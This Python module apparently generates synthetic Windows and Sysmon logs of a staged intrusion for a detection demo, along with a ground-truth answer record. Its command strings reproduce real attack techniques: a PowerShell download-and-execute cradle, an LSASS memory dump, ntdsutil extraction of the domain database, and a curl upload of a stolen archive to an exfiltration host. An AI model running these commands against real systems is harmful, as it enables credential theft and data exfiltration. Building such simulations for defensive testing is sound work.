"""The intrusion, step by step; the truth about it is collected from the steps themselves."""

import base64
from random import Random

from clew.demo import logons, security, sysmon
from clew.demo.estate import (
    C2,
    DC01,
    DOMAIN,
    DOWNLOAD,
    DOWNLOAD_URL,
    EXFIL,
    FS01,
    LOG_END,
    PAYLOAD_NAME,
    SEED,
    SVC_BACKUP,
    WS01,
    clock,
    digests,
)
from clew.demo.machine import SYSTEM32, Machine
from clew.demo.office import Desk, Office, add_seconds, service
from clew.demo.process import DemoProcess
from clew.demo.truth import Truth

PAYLOAD = f"C:\\ProgramData\\{PAYLOAD_NAME}"
REMOTE_PAYLOAD = f"C:\\Windows\\{PAYLOAD_NAME}"
DOCUMENT = "C:\\Users\\alice\\Downloads\\Invoice-4471.docm"
DUMP = "C:\\ProgramData\\d.dmp"
ARCHIVE = "C:\\PerfLogs\\f.rar"
SERVICE = "BackupAgentSvc"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
_TRACE = "|".join(f"{SYSTEM32}{name}" for name in ("ntdll.dll+9a3c2", "KERNELBASE.dll+2f71b", "comsvcs.dll+1c8d5"))


def encode_script(script: str) -> str:
    """A script as PowerShell takes it after `-EncodedCommand`."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def intrude(office: Office, victim: Desk) -> Truth:
    """Write the whole intrusion, which begins at the desk of its victim."""
    before = office.log.total()
    chain = _phish(victim)
    implant = chain[-1]
    _discover(victim.machine, implant)
    dumper = _dump_credentials(victim.machine, implant)
    server_implant = _move_to_file_server(office, implant)
    _move_to_controller(office, server_implant)
    archiver, uploader = _exfiltrate(office.machine_of(FS01), server_implant)
    steps = office.log.total() - before
    for host, process in ((WS01, implant), (FS01, server_implant)):
        _beacon(office.machine_of(host), process)
    account = victim.logon.account
    return Truth(
        c2_address=C2.address,
        c2_domain=C2.name,
        download_address=DOWNLOAD.address,
        download_domain=DOWNLOAD.name,
        download_url=DOWNLOAD_URL,
        exfil_address=EXFIL.address,
        exfil_domain=EXFIL.name,
        document=DOCUMENT,
        payload_sha256=digests(PAYLOAD)["SHA256"].lower(),
        payload_paths=(PAYLOAD, REMOTE_PAYLOAD),
        payload_guids=(implant.guid, server_implant.guid),
        parent_chain=tuple(process.guid for process in chain),
        dumper_guid=dumper.guid,
        archiver_guid=archiver.guid,
        uploader_guid=uploader.guid,
        victims=(account.user, SVC_BACKUP.user),
        victim_sids=(account.sid, SVC_BACKUP.sid),
        stolen_account=SVC_BACKUP.user,
        stolen_sid=SVC_BACKUP.sid,
        service_name=SERVICE,
        hosts=(WS01.fqdn, FS01.fqdn, DC01.fqdn),
        steps=steps,
        beacons=office.log.total() - before - steps,
    )


def _phish(victim: Desk) -> tuple[DemoProcess, ...]:
    machine, outlook = victim.machine, victim.apps["outlook"]
    at = clock("08:42:05.310")
    machine.emit(at, sysmon.file_created(outlook, DOCUMENT, at))
    winword = machine.start(
        clock("08:42:41.027"),
        outlook,
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        f'"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "{DOCUMENT}" /o ""',
    )
    macros = "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL"
    machine.emit(clock("08:42:43.590"), sysmon.image_loaded(winword, macros))
    script = f"IEX (New-Object Net.WebClient).DownloadString('{DOWNLOAD_URL}')"
    shell = machine.start(
        clock("08:42:58.204"),
        winword,
        POWERSHELL,
        f"powershell.exe -NoP -W Hidden -EncodedCommand {encode_script(script)}",
    )
    engine = SYSTEM32 + "System.Management.Automation.ni.dll"
    machine.emit(clock("08:42:58.991"), sysmon.image_loaded(shell, engine))
    machine.emit(clock("08:42:59.870"), sysmon.dns_query(shell, DOWNLOAD))
    machine.connect(clock("08:42:59.913"), shell, DOWNLOAD)
    machine.connect(clock("08:43:01.466"), shell, DOWNLOAD)
    drop_time = clock("08:43:02.118")
    machine.emit(drop_time, sysmon.file_created(shell, PAYLOAD, drop_time))
    implant = machine.start(clock("08:43:03.442"), shell, PAYLOAD)
    run_key = f"HKU\\{victim.logon.account.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\SvcUpdate"
    machine.emit(clock("08:43:04.015"), sysmon.value_set(implant, run_key, PAYLOAD))
    machine.stop(clock("08:43:05.200"), shell)
    return outlook, winword, shell, implant


def _discover(machine: Machine, implant: DemoProcess) -> None:
    commands = (
        ("08:49:12.660", "whoami.exe", "whoami /all"),
        ("08:49:40.105", "net.exe", 'net group "domain admins" /domain'),
        ("08:50:21.874", "nltest.exe", f"nltest /dclist:{DOMAIN}"),
        ("08:51:09.333", "nltest.exe", "nltest /domain_trusts"),
    )
    for text, program, line in commands:
        at = clock(text)
        process = machine.start(at, implant, SYSTEM32 + program, line)
        if program == "net.exe":
            helper = machine.start(
                add_seconds(at, 0.05), process, SYSTEM32 + "net1.exe", line.replace("net", "net1", 1)
            )
            machine.connect(add_seconds(at, 0.09), helper, service(DC01, 445))
            machine.stop(add_seconds(at, 0.3), helper)
        machine.stop(add_seconds(at, 0.4), process)


def _dump_credentials(machine: Machine, implant: DemoProcess) -> DemoProcess:
    lsass = machine.boot_processes["lsass"]
    line = f"rundll32.exe {SYSTEM32}comsvcs.dll, MiniDump {lsass.pid} {DUMP} full"
    dumper = machine.start(clock("09:01:17.508"), implant, SYSTEM32 + "rundll32.exe", line)
    for number, library in enumerate(("comsvcs.dll", "dbghelp.dll", "dbgcore.dll")):
        machine.emit(add_seconds(clock("09:01:17.611"), number / 10), sysmon.image_loaded(dumper, SYSTEM32 + library))
    machine.emit(clock("09:01:17.955"), sysmon.process_accessed(dumper, lsass, "0x1FFFFF", _TRACE))
    write_time = clock("09:01:18.020")
    machine.emit(write_time, sysmon.file_created(dumper, DUMP, write_time))
    machine.stop(clock("09:01:21.730"), dumper)
    return dumper


def _move_to_file_server(office: Office, implant: DemoProcess) -> DemoProcess:
    origin, server = office.machine_of(WS01), office.machine_of(FS01)
    system, services = server.boot_processes["System"], server.boot_processes["services"]
    at = clock("09:24:30.400")
    origin.emit(at, logons.explicit_credentials(WS01, implant, SVC_BACKUP, FS01))
    office.request_ticket(add_seconds(at, 0.2), SVC_BACKUP, WS01, FS01)
    source = origin.connect(add_seconds(at, 0.3), implant, service(FS01, 445))
    server.accept(add_seconds(at, 0.31), system, source, 445)
    logon = office.log_on(add_seconds(at, 0.35), SVC_BACKUP, source, FS01, with_privileges=True)
    server.emit(add_seconds(at, 2), sysmon.file_created(system, REMOTE_PAYLOAD, add_seconds(at, 2)))
    key = f"HKLM\\System\\CurrentControlSet\\Services\\{SERVICE}\\ImagePath"
    server.emit(add_seconds(at, 3), sysmon.value_set(services, key, REMOTE_PAYLOAD))
    server.emit(add_seconds(at, 3.02), security.service_installed(SERVICE, REMOTE_PAYLOAD, SVC_BACKUP))
    server_implant = server.start(add_seconds(at, 3.4), services, REMOTE_PAYLOAD, REMOTE_PAYLOAD)
    server.emit(add_seconds(at, 12), logons.logged_off(logon, 3))
    return server_implant


def _move_to_controller(office: Office, implant: DemoProcess) -> None:
    origin, controller = office.machine_of(FS01), office.machine_of(DC01)
    at = clock("09:51:02.250")
    origin.emit(at, logons.explicit_credentials(FS01, implant, SVC_BACKUP, DC01))
    office.request_ticket(add_seconds(at, 0.2), SVC_BACKUP, FS01, DC01)
    source = origin.connect(add_seconds(at, 0.3), implant, service(DC01, 135))
    controller.accept(add_seconds(at, 0.31), controller.boot_processes["DcomLaunch"], source, 135)
    logon = office.log_on(add_seconds(at, 0.35), SVC_BACKUP, source, DC01, with_privileges=True)
    provider = controller.start(
        add_seconds(at, 0.9),
        controller.boot_processes["DcomLaunch"],
        SYSTEM32 + "wbem\\WmiPrvSE.exe",
        f"{SYSTEM32}wbem\\wmiprvse.exe -secured -Embedding",
        controller.boot_processes["WmiPrvSE"].logon,
    )
    work = 'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ifm" q q'
    shell = controller.start(add_seconds(at, 1.2), provider, SYSTEM32 + "cmd.exe", f"cmd.exe /Q /c {work}", logon)
    utility = controller.start(add_seconds(at, 1.4), shell, SYSTEM32 + "ntdsutil.exe", work)
    for seconds, name in ((14, "Active Directory\\ntds.dit"), (19, "registry\\SYSTEM"), (21, "registry\\SECURITY")):
        path = f"C:\\Windows\\Temp\\ifm\\{name}"
        controller.emit(add_seconds(at, seconds), sysmon.file_created(utility, path, add_seconds(at, seconds)))
    controller.stop(add_seconds(at, 24), utility)
    controller.stop(add_seconds(at, 24.1), shell)
    controller.emit(add_seconds(at, 40), logons.logged_off(logon, 3))


def _exfiltrate(machine: Machine, implant: DemoProcess) -> tuple[DemoProcess, DemoProcess]:
    at = clock("10:12:44.120")
    tool = "C:\\PerfLogs\\rar.exe"
    machine.emit(at, sysmon.file_created(implant, tool, at))
    line = f"rar.exe a -r -m5 -hpT4ke0ut {ARCHIVE} \\\\FS01\\finance\\*"
    archiver = machine.start(add_seconds(at, 9), implant, tool, line)
    machine.emit(add_seconds(at, 9.2), sysmon.file_created(archiver, ARCHIVE, add_seconds(at, 9.2)))
    machine.stop(add_seconds(at, 402), archiver)
    upload_time = clock("10:32:18.700")
    upload = f"curl.exe -s -T {ARCHIVE} https://{EXFIL.name}/u/4471"
    uploader = machine.start(upload_time, implant, SYSTEM32 + "curl.exe", upload)
    machine.emit(add_seconds(upload_time, 0.2), sysmon.dns_query(uploader, EXFIL))
    for seconds in (0.3, 61, 122, 184):
        machine.connect(add_seconds(upload_time, seconds), uploader, EXFIL)
    machine.stop(add_seconds(upload_time, 246), uploader)
    removal = machine.start(
        add_seconds(upload_time, 260), implant, SYSTEM32 + "cmd.exe", f"cmd.exe /c del /q {ARCHIVE} {tool}"
    )
    machine.stop(add_seconds(upload_time, 260.4), removal)
    return archiver, uploader


def _beacon(machine: Machine, implant: DemoProcess) -> None:
    """Call home about once a minute for as long as the logs go on; every quarter of an hour the name is asked anew."""
    rng = Random(f"{SEED} beacon {machine.host.name}")
    at, number = add_seconds(implant.start_time, 1.5), 0
    while at < LOG_END:
        if number % 15 == 0:
            machine.emit(add_seconds(at, -0.06), sysmon.dns_query(implant, C2))
        machine.connect(at, implant, C2, audit=number == 0)
        at, number = add_seconds(at, 57 + rng.random() * 6), number + 1
